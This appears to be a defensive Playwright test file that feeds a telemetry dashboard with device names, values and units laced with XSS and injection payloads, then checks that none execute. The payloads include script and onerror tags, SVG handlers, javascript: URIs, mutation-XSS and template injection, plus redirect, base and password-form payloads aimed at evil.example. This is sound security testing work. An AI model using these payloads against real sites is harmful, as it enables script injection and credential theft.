import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { seriesKey } from '../../src/model.js'
import { connectMqtt, eventually, type RunningHub, startHub } from '../harness.js'
import { tempDir } from '../services/service.js'
import { openDashboard } from './open-dashboard.js'

/** Names, values and units of devices on their way into the page. Whatever of them runs sets `canary`. */

const texts: readonly (readonly [attempt: string, text: string])[] = [
  ['a script', '<script>canary=1</script>'],
  ['a script behind the end of one', '</script><script>canary=1</script>'],
  ['an image that fails', '<img src=x onerror=canary=1>'],
  ['an image that fails, out of an attribute', '"><img src=x onerror=canary=1>'],
  ['the same with single quotes', "'><img src=x onerror=canary=1>"],
  ['an attribute', '" onmouseover="canary=1" autofocus onfocus="canary=1" x="'],
  ['an SVG', '<svg onload=canary=1><animate onbegin=canary=1 attributeName=x></svg>'],
  ['a frame', '<iframe srcdoc="<script>parent.canary=1</script>"></iframe>'],
  ['the end of the title', '</title><script>canary=1</script>'],
  ['the end of a style', '</style><script>canary=1</script>'],
  ['the end of a comment', '--><script>canary=1</script>'],
  ['a template', '</template><img src=x onerror=canary=1>'],
  ['an address', 'javascript:canary=1'],
  ['an address with a line end', 'java\nscript:canary=1'],
  ['data as an address', 'data:text/html,<script>canary=1</script>'],
  ['a page that goes elsewhere', '<meta http-equiv=refresh content="0;url=http://evil.example/">'],
  ['a base', '<base href=http://evil.example/>'],
  ['a form', '<form action=http://evil.example/><input name=password autofocus></form>'],
  ['a style', '<style>*{display:none}</style>'],
  ['a mutation', '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=canary=1>">'],
  ['entities', '&lt;img src=x onerror=canary=1&gt;&#60;script&#62;canary=1'],
  ['an expression', "{{constructor.constructor('canary=1')()}}"],
  ['a selector', '"] , * , [x="'],
  ['text that turns around', 'a\u202egnp.exe\u2066b'],
  ['a prototype', '__proto__'],
  ['a constructor', 'constructor'],
  ['what every object has', 'toString'],
]

async function startAttacked(t: Test): Promise<RunningHub> {
  const folder = await tempDir()
  const config = join(folder, 'telehub.yaml')
  const unit = JSON.stringify('<img src=x onerror=canary=1>')
  const rules = `mapping:
  - {topic: "home/{room}/{device}/telemetry", measurement: telemetry, units: {v: ${unit}}}
`
  await writeFile(config, rules)
  const hub = await startHub(t, { config })
  for (const [i, [, text]] of texts.entries()) {
    const device = await connectMqtt(t, hub.mqttUrl, { clientId: text, username: text })
    const level = text.replaceAll(/[/+#]/g, '⁄')
    const publish = (topic: string, payload: object | string) =>
      device.publishAsync(topic, typeof payload === 'string' ? payload : JSON.stringify(payload), { qos: 1 })
    await publish(`home/${level}/${level}/telemetry`, { v: i, [text]: i })
    await publish('texts', Object.fromEntries([[`t${i}`, text]]))
    await publish(level, { v: i })
    await publish(level, `{"${text}`)
    // Some are still there, some are not.
    if (i % 2 === 0) await device.endAsync()
  }
  return hub
}

/** Nothing ran, and nothing was made that the page does not make itself. */
async function isUnharmed(t: Test, page: Page, where: string): Promise<void> {
  t.equal(await page.evaluate('typeof canary'), 'undefined', `${where}: nothing ran`)
  t.same(
    await page.evaluate(`[...document.querySelectorAll('*')].filter(element =>
      element.matches('img, iframe, object, embed, base, form:not([method=dialog], #command-form), style, math, animate, mglyph, meta[http-equiv=refresh], a[href^="javascript"]') ||
      (element.matches('script') && !element.src.startsWith(location.origin)) ||
      [...element.attributes].some(({ name }) => /^on|^srcdoc$/.test(name)),
    ).map(element => element.outerHTML)`),
    [],
    `${where}: no element came of it`,
  )
}

/** How the page shows a character in a name that would hide, or turn the text around. */
const visible = (text: string) =>
  text.replace(
    /\p{Cc}|\p{Bidi_Control}/gu,
    char => `‹${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}›`,
  )

const shown = (page: Page, selector: string) => page.locator(selector).allTextContents()

t.test('the page shows what devices call themselves and say, letter by letter, and runs none of it', async t => {
  const hub = await startAttacked(t)
  // A window that holds all tiles: others are not on the page.
  const { page, problems } = await openDashboard(t, hub.httpUrl, { height: 8_000 })
  const series = texts.length * 4
  await eventually(async () => (await page.locator('.tile').count()) >= series - 1, 'all tiles')
  await isUnharmed(t, page, 'live')
  const names = await shown(page, '.tile-name')
  const values = await shown(page, '.tile-value')
  const devices = await shown(page, '#devices')
  for (const [attempt, text] of texts) {
    t.ok(names.includes(visible(text)), `${attempt}: as the name of a field`)
    t.ok(
      values.some(value => value.includes(visible(text))),
      `${attempt}: as a value`,
    )
    t.ok(
      devices.some(list => list.includes(visible(text))),
      `${attempt}: as a client`,
    )
  }
  t.ok((await shown(page, '.tile-unit')).includes('<img src=x onerror=canary=1>'), 'as a unit')

  for (const [attempt, text] of texts) {
    const tags = [
      ['device', text.replaceAll(/[/+#]/g, '⁄')],
      ['room', text.replaceAll(/[/+#]/g, '⁄')],
    ] as const
    const series = seriesKey({ measurement: 'telemetry', tags, field: text })
    await page.evaluate(`location.hash = ${JSON.stringify(String(new URLSearchParams({ series })))}`)
    // The name is that of the catalogue, which makes some fields readable.
    await eventually(async () => {
      const [of, points] = await Promise.all(
        ['data-series', 'data-points'].map(name => page.locator('#chart').getAttribute(name)),
      )
      return of === series && Number(points) > 0
    }, `${attempt}: the chart is open`)
    t.notMatch(await page.locator('#detail-name').textContent(), /^(Not found|Loading …)$/, attempt)
    await isUnharmed(t, page, `${attempt}, in the chart`)
  }

  await page.goto(`${hub.httpUrl}/#balance`)
  await eventually(async () => (await page.locator('.letter').count()) > 0, 'dead letters')
  await isUnharmed(t, page, 'balance and dead letters')
  for (const [attempt, text] of texts) {
    await page.locator('#search').fill(text.split('\n')[0] ?? '')
    await eventually(async () => {
      const [letters, rows] = [await shown(page, '.letter'), await shown(page, '#rows')]
      return letters.join().includes(text.slice(0, 20)) && rows.join().includes(text)
    }, `${attempt}: a dead letter and a row`)
  }
  await isUnharmed(t, page, 'search')
  t.same(problems, [], 'no error, and no request to anybody else')
  t.equal((await hub.get('/healthz')).status, 200)
})
